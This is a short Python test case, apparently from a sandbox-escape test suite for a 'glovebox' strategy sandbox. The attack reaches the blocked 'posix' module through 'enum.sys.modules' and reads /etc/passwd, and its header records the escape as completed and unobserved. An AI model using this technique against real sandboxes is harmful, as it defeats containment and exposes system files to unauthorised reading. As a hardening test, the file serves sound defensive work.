# id: L19
# family: language
# goal: find sys as a re-export of an allowed module, and posix there
# finding: PY303
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import enum


def attack(ctx, bar):
    posix = enum.sys.modules["posix"]
    return posix.read(posix.open("/etc/passwd", 0), 20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
